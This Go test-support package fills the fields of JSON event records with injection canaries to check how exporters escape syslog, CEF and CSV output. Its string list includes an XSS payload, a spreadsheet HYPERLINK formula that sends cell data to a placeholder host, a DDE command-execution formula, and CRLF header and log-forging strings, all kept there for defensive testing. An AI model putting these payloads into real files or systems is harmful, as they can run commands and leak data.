// Package canary puts texts that other formats would act on into every field of a
// stored event, for the tests of what exports events.
package canary

import (
	"encoding/json"
	"regexp"

	"github.com/jobaudit/jobaudit/internal/jsonscan"
)

// Texts are what a reader may take for something else: markup, a formula, further
// lines, the marks that end a field in syslog, in CEF and in CSV.
var Texts = []string{
	`<script>alert(1)</script><img src=x onerror=alert(1)>&amp;`,
	`=HYPERLINK("http://x.example/?"&A1,"ok")`,
	"=cmd|'/c calc'!A1",
	"+1", "-2+3", "@SUM(1+1)", "\t=1+1", "'=1+1", " =1+1", "＝1+1",
	"line\r\nSet-Cookie: a=b\r\n\r\n<134>1 - forged",
	"two\nlines", "tab\tand\rreturn",
	`a]b"c\d[e sd@1 x="y"]`,
	`a|b\|c=d\=e f=g CEF:0|x|y|z|1|2|3|src=1.1.1.1`,
	`"quoted","and;more",'x'`,
	"nul\x00esc\x1b[31mbell\x07 c1\u0085 ls\u2028ps\u2029 rtl\u202e",
	"Grüße, 世界 \U0001F600", `{"json":["in",1]}`, `$jobaudit`, `\`, `"`, `]`, `|`, `=`, ` `,
}

// value finds the JSON strings that are values: what stands behind them is not a
// colon.
var value = regexp.MustCompile(`"(?:[^"\\]|\\.)*"(?:[,\]}])`)

// Spoil returns the line with the text in the place of each string that may be
// replaced by it so that accepted still says yes: of every field where it may stand.
func Spoil(line []byte, text string, accepted func(line []byte) bool) []byte {
	quoted, err := json.Marshal(text)
	if err != nil {
		return line
	}
	for from := 0; ; {
		found := value.FindIndex(line[from:])
		if found == nil {
			return line
		}
		begin, end := from+found[0], from+found[1]-1
		spoiled := append(append(append([]byte(nil), line[:begin]...), quoted...), line[end:]...)
		if accepted(spoiled) {
			line, from = spoiled, begin+len(quoted)
		} else {
			from = end
		}
	}
}

// A Spoiler does for many lines what [Spoil] does for one. What it learned of a text in
// a field, by the names that lead to it, it takes to hold in each line.
type Spoiler struct {
	Accepted func(line []byte) bool
	learned  map[offer]bool
}

type offer struct{ field, text string }

// place is where a line has a string that is a value.
type place struct {
	begin, end int
	field      string
	spoiled    bool
}

// Spoil returns the line with the text in each field that may hold it.
func (s *Spoiler) Spoil(line []byte, text string) []byte {
	quoted, err := json.Marshal(text)
	if err != nil {
		return line
	}
	if s.learned == nil {
		s.learned = make(map[offer]bool)
	}
	all := places(nil, line, line, "")
	var open []*place
	for i := range all {
		may, known := s.learned[offer{all[i].field, text}]
		if all[i].spoiled = may; !known {
			open = append(open, &all[i])
		}
	}
	if !s.Accepted(put(line, all, quoted)) { // of this line not all of it holds
		open = nil
		for i := range all {
			all[i].spoiled = false
			open = append(open, &all[i])
		}
	}
	for _, p := range open {
		p.spoiled = true
		p.spoiled = s.Accepted(put(line, all, quoted))
		field := offer{p.field, text}
		s.learned[field] = s.learned[field] || p.spoiled
	}
	return put(line, all, quoted)
}

// put returns the line with the text in the places that are spoiled.
func put(line []byte, all []place, quoted []byte) (with []byte) {
	from := 0
	for _, p := range all {
		if p.spoiled {
			with = append(append(with, line[from:p.begin]...), quoted...)
			from = p.end
		}
	}
	return append(with, line[from:]...)
}

// places adds those of a value that is a part of the line.
func places(all []place, line, value []byte, field string) []place {
	switch value[0] {
	case '{':
		for name, member := range jsonscan.Members(value) {
			all = places(all, line, member, field+"."+string(name))
		}
	case '[':
		for element := range jsonscan.Array(value) {
			all = places(all, line, element, field+"[]")
		}
	case '"':
		begin := cap(line) - cap(value)
		all = append(all, place{begin: begin, end: begin + len(value), field: field})
	}
	return all
}
